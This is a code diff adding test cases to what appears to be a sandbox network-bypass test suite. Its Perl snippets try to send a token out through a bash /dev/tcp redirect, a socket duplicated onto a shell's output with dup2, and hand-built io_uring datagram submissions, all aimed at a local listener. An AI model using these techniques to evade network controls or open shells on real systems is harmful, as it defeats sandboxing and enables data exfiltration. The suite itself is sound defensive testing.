@@ -47,6 +47,13 @@ struct NetworkBypasses {
                 "N11", "reverse-shell", "bash with /dev/tcp", stoppedAs: .exec,
                 #"captured("", sub { exec "/bin/bash", "-c", "echo $token >/dev/tcp/127.0.0.1/$port"; "error $!" })"#
             ),
+            code.sends(
+                "N11", "shell-on-socket", "a shell whose output is a connection, by dup2",
+                #"""
+                socket(my $s, 2, 1, 0); connect($s, in4($port)) or return "error $!";
+                my $p = fork(); if (!$p) { syscall(33, fileno $s, 1); exec "/bin/sh", "-c", "echo $token"; }
+                waitpid($p, 0); "sent"
+                """#),
         ]
     }
 
@@ -87,6 +94,18 @@ struct NetworkBypasses {
                     syswrite($s, $token); "result $r"
                     """#)
         }
+            + [("inline", 0), ("worker", 16)].map { name, flags in
+                code.sends(
+                    "N7", "io-uring-send-\(name)", "a datagram sent by io_uring, \(name)",
+                    PerlCalls.ring + #"""
+                        socket(my $s, 2, 2, 0); my $to = in4($port);
+                        my $part = pack("QQ", address($token), length $token);
+                        my $message = pack("QLx4QQQQlx4", address($to), 16, address($part), 1, 0, 0, 0);
+                        my $r = submit(pack("CCSlQQLLQ",
+                            9, \#(flags), 0, fileno $s, 0, address($message), 1, 0, 1));
+                        "result $r"
+                        """#)
+            }
     }
 
     /// The listener is the host's, as a container runtime's socket is.
